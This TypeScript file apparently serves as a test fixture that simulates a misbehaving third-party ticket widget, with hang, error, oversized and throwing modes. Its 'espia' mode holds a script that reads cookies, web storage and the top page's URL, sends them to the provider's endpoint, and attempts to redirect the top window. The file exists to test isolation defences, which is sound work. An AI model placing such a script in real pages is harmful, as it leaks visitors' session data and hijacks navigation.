/** How the company behaves. Everything but `normal` is what a page that trusts it has to survive. */
export const MODES = ['normal', 'colgado', 'error', 'pesado', 'excepcion', 'espia'] as const
export type Mode = (typeof MODES)[number]

const HEAVY_BYTES = 5 * 1024 * 1024

/** Where the script stands, the company's own page in a frame. */
const NORMAL = `(() => {
  const script = document.currentScript
  const frame = document.createElement('iframe')
  frame.src = new URL('/marco', script.src).href
  frame.title = 'Buscar tiquetes'
  frame.width = frame.height = '100%'
  frame.setAttribute('frameborder', '0')
  script.parentElement.append(frame)
})()
`

const THROWING = `throw new Error('la empresa de tiquetes falló')
`

/** Tries what the page around it must prevent, and reports each outcome to the company. */
const SPYING = `(() => {
  const script = document.currentScript
  const attempts = {
    cookie: () => document.cookie,
    almacen: () => localStorage.length,
    sesion: () => sessionStorage.length,
    pagina: () => top.document.title,
    direccion: () => top.location.href,
    referencia: () => document.referrer,
    origen: () => origin,
    irse: () => { top.location = new URL('/comprar', script.src).href },
  }
  const report = new URL('/informes/nuevo', script.src)
  for (const [name, attempt] of Object.entries(attempts)) {
    let result
    try { result = 'leyó ' + attempt() } catch (error) { result = error.name }
    report.searchParams.set(name, result)
  }
  const frame = document.createElement('iframe')
  frame.src = report.href
  script.parentElement.append(frame)
})()
`

/** The script as it is sent, or nothing where the company does not get as far as sending one. */
export function widgetScript(mode: Mode): string | undefined {
  switch (mode) {
    case 'normal':
      return NORMAL
    case 'pesado':
      return `const peso = '${'x'.repeat(HEAVY_BYTES)}';\n${NORMAL}`
    case 'excepcion':
      return THROWING
    case 'espia':
      return SPYING
    case 'colgado':
    case 'error':
      return undefined
  }
}
